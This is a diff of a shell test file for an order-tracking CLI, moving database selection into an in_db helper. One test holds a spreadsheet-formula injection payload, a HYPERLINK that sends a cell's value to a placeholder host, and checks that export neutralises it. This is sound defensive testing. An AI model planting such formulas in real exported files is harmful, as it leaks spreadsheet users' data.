@@ -7,7 +7,7 @@ load helper
 
 # A second database with the same buyer and partner (id 1).
 fresh_db() {
-	RAPPORT_DB="$BATS_TEST_TMPDIR/$1.db" init_db
+	in_db "$1" init_db
 }
 
 # round_trip KIND FILE: imports FILE, exports the kind, imports the export
@@ -18,13 +18,12 @@ round_trip() {
 	rapport import --kind "$kind" "$file" >/dev/null
 	rapport export --partner 1 --kind "$kind" --out "first-$kind.csv"
 	fresh_db "copy-$kind"
-	RAPPORT_DB="$BATS_TEST_TMPDIR/copy-$kind.db" rapport import --kind "$kind" "first-$kind.csv" >/dev/null
-	RAPPORT_DB="$BATS_TEST_TMPDIR/copy-$kind.db" rapport export --partner 1 --kind "$kind" --out "second-$kind.csv"
+	in_db "copy-$kind" rapport import --kind "$kind" "first-$kind.csv" >/dev/null
+	in_db "copy-$kind" rapport export --partner 1 --kind "$kind" --out "second-$kind.csv"
 	cmp "first-$kind.csv" "second-$kind.csv"
 }
 
 @test "orders import with the milestones and payments order add makes, and round-trip" {
-	sqlite_only "makes a second database as a SQLite file beside the first"
 	init_db
 	printf 'po,style,qty,price,currency,ex_factory,at\n' >orders.csv
 	printf 'LR-2027-014,"Cable crew, W27",2400,18.40,USD,2027-03-15,2026-11-20T10:00Z\n' >>orders.csv
@@ -35,11 +34,11 @@ round_trip() {
 	[ "$stderr" = 'orders.csv:2: warning: "LR-2027-014: production start" due 2027-02-13 falls on a day off at Dongguan Evergreen Knitwear (CN: Spring Festival factory closure); their next working day is 2027-02-16' ]
 	# the same order by hand in another database: the same records
 	fresh_db byhand
-	RAPPORT_DB="$BATS_TEST_TMPDIR/byhand.db" rapport order add --partner 1 --po LR-2027-014 --style "Cable crew, W27" \
+	in_db "byhand" rapport order add --partner 1 --po LR-2027-014 --style "Cable crew, W27" \
 		--qty 2400 --price 18.40 --currency USD --ex-factory 2027-03-15 --at 2026-11-20T10:00Z 2>/dev/null
 	local what
 	for what in orders commitments payments; do
-		[ "$(rapport "$what" --json)" = "$(RAPPORT_DB="$BATS_TEST_TMPDIR/byhand.db" rapport "$what" --json)" ]
+		[ "$(rapport "$what" --json)" = "$(in_db "byhand" rapport "$what" --json)" ]
 	done
 	# hand-worked, as in t0220: 60, 45, 30, 14, 3 and 0 days before ex-factory
 	run rapport commitments --json
@@ -53,14 +52,13 @@ round_trip() {
 	rapport export --partner 1 --kind orders --out out.csv
 	[ "$(cat out.csv)" = "$(printf 'partner,po,style,qty,price,currency,ex_factory,at\r\n1,LR-2027-014,"Cable crew, W27",2400,18.40,USD,2027-03-15,2026-11-20T10:00:00Z\r')" ]
 	fresh_db copy
-	RAPPORT_DB="$BATS_TEST_TMPDIR/copy.db" rapport import --kind orders out.csv >/dev/null 2>&1
+	in_db "copy" rapport import --kind orders out.csv >/dev/null 2>&1
 	for what in orders commitments payments; do
-		[ "$(rapport "$what" --json)" = "$(RAPPORT_DB="$BATS_TEST_TMPDIR/copy.db" rapport "$what" --json)" ]
+		[ "$(rapport "$what" --json)" = "$(in_db "copy" rapport "$what" --json)" ]
 	done
 }
 
 @test "a value a spreadsheet would run as a formula is exported as text and imports back unchanged" {
-	sqlite_only "makes a second database as a SQLite file beside the first"
 	init_db
 	# a note the factory typed: =HYPERLINK(...) would run in the buyer's spreadsheet
 	rapport contact --partner 1 --by partner --kind email --at 2026-11-20T09:00Z \
@@ -80,9 +78,9 @@ for row in csv.reader(open("c.csv", newline="")):
     for cell in row:
         assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell'
 	fresh_db copy
-	RAPPORT_DB="$BATS_TEST_TMPDIR/copy.db" rapport import --kind contacts c.csv >/dev/null
-	[ "$(RAPPORT_DB="$BATS_TEST_TMPDIR/copy.db" rapport contacts --json | json_get '[0]["note"]')" = '=HYPERLINK("http://x.example/?"&A1,"Click")' ]
-	[ "$(rapport contacts --json)" = "$(RAPPORT_DB="$BATS_TEST_TMPDIR/copy.db" rapport contacts --json)" ]
+	in_db "copy" rapport import --kind contacts c.csv >/dev/null
+	[ "$(in_db "copy" rapport contacts --json | json_get '[0]["note"]')" = '=HYPERLINK("http://x.example/?"&A1,"Click")' ]
+	[ "$(rapport contacts --json)" = "$(in_db "copy" rapport contacts --json)" ]
 }
 
 @test "every kind round-trips through export into a fresh database" {
@@ -226,7 +224,6 @@ for row in csv.reader(open("c.csv", newline="")):
 }
 
 @test "--dry-run checks every row, duplicate POs included, and writes nothing" {
-	sqlite_only "reads or alters the SQLite file with sqlite3"
 	init_db
 	printf 'po,style,qty,price,currency,ex_factory\nA,S,1,1,USD,2027-06-01\nB,S,1,1,USD,2027-06-01\n' >ok.csv
 	before=$(dump)
@@ -241,7 +238,7 @@ for row in csv.reader(open("c.csv", newline="")):
 		import --kind orders --partner 1 --dry-run dup.csv
 	# and the real import still lands afterwards
 	rapport import --kind orders --partner 1 ok.csv >/dev/null 2>&1
-	[ "$(sqlite3 "$RAPPORT_DB" 'SELECT count(*) FROM orders')" = "2" ]
+	[ "$(db_query 'SELECT count(*) FROM orders')" = "2" ]
 }
 
 @test "an import appends through the ledger: the chain verifies, times in the future are refused" {
